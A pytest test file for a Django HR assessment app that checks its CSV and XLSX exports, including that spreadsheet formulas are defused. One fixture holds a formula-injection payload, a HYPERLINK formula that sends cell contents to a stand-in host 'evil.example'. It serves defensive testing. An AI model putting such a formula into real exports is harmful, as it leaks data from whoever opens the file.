"""HR's CSV and XLSX exports: the export_scores fields, suppressed cells empty, formulas defused."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import AuditEvent
from assessments.reports.score_document import ROW_FIELDS
from tests.builders import report_answers_add, report_cycle_make, report_team_make

EVIL_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
EVIL_COMMENT = "=1+2"


@pytest.fixture
def cycle(bank):
    cycle = report_cycle_make(bank)
    team = report_team_make(cycle, EVIL_TEAM)
    report_answers_add(cycle, team, values=[5, 4, 4, 3, 4], comments=[EVIL_COMMENT, "@SUM(A1)"])
    report_answers_add(cycle, report_team_make(cycle, "Data"), values=[3, 4, 3, 4])
    report_answers_add(cycle, report_team_make(cycle, "Tiny"), values=[5, 5])
    return cycle


def export(client, cycle, kind, fmt):
    return client.get(reverse("assessments:cycle-export", args=[cycle.pk, kind, fmt]))


def test_scores_csv_has_the_export_scores_fields_and_neutralised_team_names(client, hr_user, cycle):
    client.force_login(hr_user)
    response = export(client, cycle, "scores", "csv")
    assert response.status_code == 200
    assert response["Content-Disposition"] == ('attachment; filename="pillars-2026-q2-scores.csv"')
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == list(ROW_FIELDS)
    evil = [row for row in rows if row["team"] == "'" + EVIL_TEAM]
    assert len(evil) == 5
    assert all(row["mean"] and row["suppressed"] == "False" for row in evil)
    tiny = [row for row in rows if row["team"] == "Tiny"]
    assert all(row["suppressed"] == "True" and row["mean"] == "" for row in tiny)
    assert not any(row["team"].startswith("=") for row in rows)
    assert AuditEvent.objects.filter(action="export.downloaded").count() == 1


def test_scores_xlsx_holds_no_formula(client, hr_user, cycle):
    client.force_login(hr_user)
    response = export(client, cycle, "scores", "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL_TEAM in [cell.value for cell in cells]


def test_comments_exports_defuse_formulas_in_comments(client, hr_user, cycle):
    client.force_login(hr_user)
    text = export(client, cycle, "comments", "csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["comment"] for row in rows} == {"'" + EVIL_COMMENT, "'@SUM(A1)"}
    assert {row["team"] for row in rows} == {"'" + EVIL_TEAM}
    book = load_workbook(io.BytesIO(export(client, cycle, "comments", "xlsx").content))
    values = [cell.value for row in book.active.iter_rows() for cell in row]
    assert "'" + EVIL_COMMENT in values
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]


def test_unknown_export_kinds_and_formats_are_404(client, hr_user, cycle):
    client.force_login(hr_user)
    assert export(client, cycle, "answers", "csv").status_code == 404
    assert export(client, cycle, "scores", "ods").status_code == 404


def test_exports_round_as_the_pages_do_and_name_each_pillar(client, hr_user, cycle):
    client.force_login(hr_user)
    rows = list(
        csv.DictReader(
            io.StringIO(export(client, cycle, "scores", "csv").content.decode("utf-8-sig"))
        )
    )
    data = [row for row in rows if row["team"] == "Data"]
    assert data[0]["pillar_name"] == "Strategic Clarity"
    for row in data:
        for field in ("mean", "sd", "ci_low", "ci_high"):
            assert row[field] == "" or len(row[field].split(".")[1]) == 2, (field, row[field])
        assert row["favourable_pct"] == "" or "." not in row["favourable_pct"]
    sheet = load_workbook(io.BytesIO(export(client, cycle, "scores", "xlsx").content)).active
    header = [cell.value for cell in sheet[1]]
    mean = sheet.cell(row=2, column=header.index("mean") + 1)
    assert isinstance(mean.value, float)
    assert mean.value == round(mean.value, 2)
    assert mean.number_format == "0.00"
    favourable = sheet.cell(row=2, column=header.index("favourable_pct") + 1)
    assert favourable.number_format == "0"
    comments = export(client, cycle, "comments", "csv").content.decode("utf-8-sig")
    assert "pillar_name" in comments.splitlines()[0]
